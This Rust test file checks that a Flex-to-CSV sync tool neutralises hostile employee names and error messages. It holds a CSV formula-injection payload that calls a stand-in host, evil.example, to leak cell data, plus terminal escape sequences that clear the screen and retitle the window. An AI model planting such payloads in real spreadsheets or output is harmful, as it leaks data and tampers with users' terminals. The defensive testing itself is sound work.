//! Names that are formulas or terminal escape sequences, from Flex: neutralised in the CSV
//! files (unless `raw_values` is asked for) and never reaching the terminal.

use super::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)";
const ESCAPED: &str = "Nils\u{1b}[2J\u{1b}]0;pwned\u{7}son";

async fn rig(extra: &str) -> HostileRig {
    let mut doc = example();
    employee_mut(&mut doc, SARA)["FirstName"] = FORMULA.into();
    employee_mut(&mut doc, SARA)["LastName"] = ESCAPED.into();
    let rig = HostileRig::start_with(doc, &format!("[files]\ndir = \"out\"\n{extra}")).await;
    std::fs::create_dir(rig.dir.path().join("out")).unwrap();
    rig
}

fn users_csv(rig: &HostileRig) -> String {
    std::fs::read_to_string(rig.dir.path().join("out/wt_users.csv")).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_name_is_neutralised_and_an_escape_sequence_reaches_neither_file_nor_terminal() {
    let rig = rig("").await;
    let ran = rig.sync().await;
    assert_eq!(ran.code, 0, "{}", ran.printed());
    let csv = users_csv(&rig);
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(
        !csv.contains(";\"=HYPERLINK") && !csv.contains(";=HYPERLINK"),
        "{csv}"
    );
    assert!(csv.contains("Nils[2J]0;pwnedson"), "{csv}");
    assert!(!csv.contains('\u{1b}') && !csv.contains('\u{7}'), "{csv}");
    let printed = ran.printed();
    assert!(
        printed.contains("Nils[2J]0;pwnedson"),
        "the name is shown: {printed}"
    );
    assert!(
        !printed.contains('\u{1b}') && !printed.contains('\u{7}'),
        "{printed:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn raw_values_keep_a_formula_as_it_is() {
    let rig = rig("raw_values = true\n").await;
    let ran = rig.sync().await;
    assert_eq!(ran.code, 0, "{}", ran.printed());
    let csv = users_csv(&rig);
    assert!(csv.contains(";\"=HYPERLINK("), "{csv}");
    assert!(!csv.contains('\u{1b}'), "{csv}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_escape_sequence_in_a_flex_error_reaches_neither_terminal_nor_store() {
    let rig = HostileRig::start("").await;
    let body =
        serde_json::json!({ "Message": "boom \u{1b}]0;pwned\u{7}\u{1b}[2J done" }).to_string();
    rig.flex_proxy.attack(rule(None, "/", respond(500, &body)));
    let ran = rig.sync().await;
    let printed = ran.printed();
    assert_eq!(ran.code, 4, "{printed}");
    assert!(printed.contains("boom ]0;pwned[2J done"), "{printed}");
    assert!(!printed.contains('\u{1b}'), "{printed:?}");
    let stored = rig.stored();
    assert!(stored.contains("pwned"), "the error is stored");
    // The database's own pages hold such bytes: look for them around the message only.
    for escaped in [
        "\u{1b}]0;pwned",
        "\\u001b]0;pwned",
        "pwned\u{7}",
        "pwned\\u0007",
    ] {
        assert!(!stored.contains(escaped), "stored {escaped:?}");
    }
}
